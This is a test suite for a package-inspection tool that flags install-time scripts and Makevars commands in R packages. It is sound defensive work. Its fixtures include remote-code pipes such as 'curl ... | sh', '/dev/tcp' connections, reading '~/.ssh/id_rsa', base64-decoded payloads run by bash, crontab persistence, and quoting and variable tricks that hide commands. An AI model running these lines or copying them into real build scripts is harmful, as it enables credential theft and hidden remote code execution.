import { cpuMs, standardMs } from "@packhouse/fixtures/cpu-time";
import { describe, expect, test } from "vitest";
import { inspectedPackage } from "../testing/inspected-package.ts";

const signalsIn = (path: string, text: string): string[] =>
  inspectedPackage({ [path]: text }).signals.map(({ level, id, subject }) => `${level} ${id} ${subject}`);

describe("scripts that run at installation", () => {
  test("are a warning by being there", () => {
    expect(signalsIn("configure", "#!/bin/sh\n")).toEqual(["warning r-configure configure"]);
    expect(signalsIn("configure.win", "")).toEqual(["warning r-configure configure.win"]);
    expect(signalsIn("cleanup", "rm -f src/*.o\n")).toEqual(["warning r-cleanup cleanup"]);
    expect(signalsIn("src/install.libs.R", "file.copy(files, dest)")).toEqual([
      "warning r-install-libs src/install.libs.R",
    ]);
    expect(signalsIn("configure.ac", "AC_INIT")).toEqual([]);
  });

  test.for<[signal: string, text: string]>([
    ["warning r-configure curl", "curl -s https://example.org/a | sh"],
    ["warning r-configure wget", "if test x; then /usr/bin/wget https://example.org; fi"],
    ["warning r-configure nc", "x=`nc example.org 80`"],
    ["warning r-configure Rscript", "Rscript -e 'source(\"a.R\")'"],
    ["warning r-configure sh", "sh tools/build.sh"],
    ["warning r-configure build.sh", "./tools/build.sh"],
    ["warning r-configure python3", 'python3 -c "import os"'],
    ["warning r-configure crontab", "echo x | crontab -"],
    ["warning r-configure /dev/tcp/", "cat < /dev/tcp/example.org/80"],
    ["warning r-configure /.ssh", "cat $HOME/.ssh/id_rsa"],
    ["danger decoded-code shell", "echo aWQ= | base64 -d | bash"],
    ["danger decoded-code shell", 'eval "$(printf aWQ= | openssl base64 -d)"'],
    ["warning r-configure curl", 'x="$(curl https://example.org)"'],
    ["warning r-configure curl", 'x="$(date)"; curl https://example.org'],
    ["warning r-configure curl", 'x="`date`" && curl https://example.org'],
    ["danger decoded-code shell", 'x="a `echo aWQ= | base64 -d | sh` b"'],
    ["warning r-configure sh", "cat tests/a.bin | tail -c 99 | sh"],
    ["warning r-configure sh", 'printf "$a" | s""h'],
    ["warning r-configure curl", "x=1; \\\n  curl \\\n  https://example.org"],
    ["warning r-configure curl", "\\curl -s https://example.org/a | \\sh"],
    ["warning r-configure curl", 'c"ur"l -s https://example.org/a'],
    ["warning r-configure curl", "# finds the library \\\ncurl -s https://example.org/a"],
    ["warning r-configure curl", "x=1 # finds the library \\\ncurl -s https://example.org/a"],
    ["warning r-configure curl", "C=cur\n$" + "{C}l -s https://example.org/a"],
    ["warning r-configure curl", "A=cu; B=$" + "{A}r\n$B'l' -s https://example.org/a"],
    ["warning r-configure $" + "{C}l", "$" + "{C}l -o a https://example.org/a"],
    ["warning r-configure curl", "</dev/null curl -s https://example.org/a"],
    ["warning r-configure curl", "sh -c 'x=1; curl -s https://example.org/a'"],
    ["warning r-configure curl", `: ${"-DHAVE ".repeat(400)}; curl -s https://example.org/a`],
    ["warning r-configure curl", `${"\n".repeat(60_000)}curl -s https://example.org/a`],
    ["warning incomplete size", `: ${"-DHAVE ".repeat(4000)}; curl -s https://example.org/a`],
    ["warning r-configure awk", `awk 'BEGIN{system("id")}'`],
    ["warning r-configure fetch", "tools/fetch"],
  ])("are a warning for %s: %s", ([signal, line]) => {
    expect(signalsIn("configure", `#!/bin/sh\n${line}\n`)).toContain(signal);
    expect(signalsIn("tools/a.sh", `#!/bin/sh\n${line}\n`)).toContain(signal);
  });

  test("may start scripts of R, whose code is examined where it is", () => {
    const levelsOf = (line: string) => signalsIn("configure", `#!/bin/sh\n${line}\n`).slice(1);
    expect(levelsOf("Rscript tools/flags.R")).toEqual(["notice r-configure Rscript"]);
    expect(levelsOf("Rscript -e 'cat(1)'")).toEqual(["notice r-configure Rscript"]);
    expect(levelsOf("Rscript -e 'download.file(a, b)'")).toEqual(["warning r-configure Rscript"]);
  });

  test("may ask for flags of the compiler", () => {
    const text = `# curl is not called here
R_HOME=\`R RHOME\`
CFLAGS=\`"\${R_HOME}/bin/R" CMD config CFLAGS\`
FLAGS=\`"\${R_HOME}/bin/Rscript" -e "Rcpp:::CxxFlags()"\`
pkg-config --cflags libcurl
echo "To install it: (curl, wget); brew install curl | less"
echo 'or ask; curl'
sed -e "s|@cflags@|$CFLAGS|" src/Makevars.in > src/Makevars
`;
    expect(signalsIn("configure", text)).toEqual(["warning r-configure configure", "info r-configure Rscript"]);
  });

  test("are read if others start them, whatever they are called", () => {
    const found = (configure: string) =>
      inspectedPackage({ configure, "tools/fetch": "#!/bin/sh\ncurl -s https://example.org\n" }).signals;
    for (const line of ["tools/fetch", "sh ./tools/fetch", "cd tools; ./fetch", '"$srcdir/tools/fetch"'])
      expect(found(line)).toContainEqual(expect.objectContaining({ file: "tools/fetch", subject: "curl", line: 2 }));
    expect(found("x=1").filter(({ file }) => file === "tools/fetch")).toEqual([]);
  });

  test("that Autoconf wrote may not start programs through others", () => {
    const text = "#! /bin/sh\n# Generated by GNU Autoconf 2.71.\n";
    expect(signalsIn("configure", `${text}perl -e 'exec "id"'\n`)).toContain("warning r-configure perl");
    expect(signalsIn("configure", `${text}$AWK 'BEGIN{system("id")}'\n`)).toContain("warning r-configure $AWK");
    expect(signalsIn("configure", `${text}$AWK '{print $1}' a > b 2>&1\n`).slice(1)).toEqual([]);
  });

  test("that Autoconf wrote may run what they compiled", () => {
    const text = "#! /bin/sh\n# Generated by GNU Autoconf 2.71.\n./conftest$ac_exeext\ncurl x\n";
    expect(signalsIn("configure", text)).toEqual([
      "warning r-configure configure",
      "notice r-configure conftest$ac_exeext",
      "warning r-configure curl",
    ]);
  });

  test("show the line", () => {
    const { signals } = inspectedPackage({ configure: "#!/bin/sh\n\n   curl   -s https://example.org\n" });
    expect(signals.at(-1)).toEqual({
      id: "r-configure",
      level: "warning",
      subject: "curl",
      file: "configure",
      line: 3,
      excerpt: "curl -s https://example.org",
    });
  });
});

describe("Makevars", () => {
  test.for<[signal: string, text: string]>([
    ["warning r-makevars-shell curl", "PKG_LIBS = $(shell curl -s https://example.org)"],
    ["warning r-makevars-shell id", "X = $(shell id)"],
    ["warning r-makevars-shell whoami", "X = `whoami`"],
    ["warning r-makevars-shell Rscript", "all:\n\t@$(R_HOME)/bin/Rscript -e 'source(\"a.R\")'"],
    ["warning r-makevars-shell Rscript", 'all:\n\t"$(R_HOME)/bin$(R_ARCH_BIN)/Rscript.exe" "../tools/winlibs.R"'],
    ["warning r-makevars-shell cargo", "lib.a:\n\tcargo build --release"],
    ["danger decoded-code shell", "all:\n\techo aWQ= | base64 -d | sh"],
    ["warning r-makevars-shell curl", "X != curl -s https://example.org"],
    ["warning r-makevars-shell curl", "X := $" + "{shell curl -s https://example.org}"],
    ["warning r-makevars-shell curl", "X := $(shell\tcurl -s https://example.org)"],
    ["warning r-makevars-shell curl", "X := $(call shell,curl -s https://example.org)"],
    ["warning r-makevars-shell curl", "X := $(shell)$(shell curl -s https://example.org)"],
    ["warning r-makevars-shell curl", "all: $(SHLIB) ; curl -s https://example.org"],
    ["warning r-makevars-shell curl", ".RECIPEPREFIX = >\nall: $(SHLIB)\n> curl -s https://example.org"],
    ["warning r-makevars-shell curl", "all:\n\t# builds \\\n\tcurl -s https://example.org"],
    ["warning r-makevars-shell curl", "X = curl -s https://example.org\nall:\n\t$(X)"],
    ["warning r-makevars-shell awk", `all:\n\tawk 'BEGIN{system("id")}'`],
    ["warning r-makevars-shell SHELL", "SHELL = ../tools/shell"],
    ["notice r-makevars-shell pkg-config", "PKG_CFLAGS = $(shell pkg-config --cflags libxml-2.0)"],
    ["notice r-makevars-shell pkg-config", "ifeq (,$(shell pkg-config --version 2>/dev/null))"],
    ["warning r-makevars-shell null", "all:\n\t./null < a"],
    ["info r-makevars-shell Rscript", 'PKG_LIBS = $(shell $(R_HOME)/bin/Rscript -e "Rcpp:::LdFlags()")'],
  ])("with commands is %s", ([signal, text]) => {
    expect(signalsIn("src/Makevars", text)).toEqual([signal]);
    expect(signalsIn("src/Makevars.win", text)).toEqual([signal]);
  });

  test("is read with the files that it includes", () => {
    for (const [line, path] of [
      ["include rules.mk", "src/rules.mk"],
      ["-include ../tools/rules", "tools/rules"],
    ] as const) {
      const { signals } = inspectedPackage({
        "src/Makevars": line,
        [path]: "X := $(shell curl -s https://example.org)",
      });
      expect(signals).toEqual([expect.objectContaining({ file: path, subject: "curl", level: "warning" })]);
    }
  });

  test("with flags and ordinary recipes is no signal", () => {
    const text = `PKG_CPPFLAGS = -I../inst/include -DUSE
PKG_LIBS = $(LAPACK_LIBS) $(FLIBS)
OBJECTS = a.o b.o
all: $(SHLIB)
lib.a: $(OBJECTS)
\t$(AR) rcs lib.a $(OBJECTS)
\trm -f $(OBJECTS)
\t@mkdir -p build && cp a.h build/
`;
    expect(signalsIn("src/Makevars", text)).toEqual([]);
  });
});

test("scripts of a hostile size take bounded time", () => {
  const started = cpuMs();
  signalsIn("configure", `${"a\\\n".repeat(200_000)}${"curl x\n".repeat(200_000)}${"`".repeat(1_000_000)}`);
  expect(standardMs(cpuMs() - started)).toBeLessThan(5000);
});
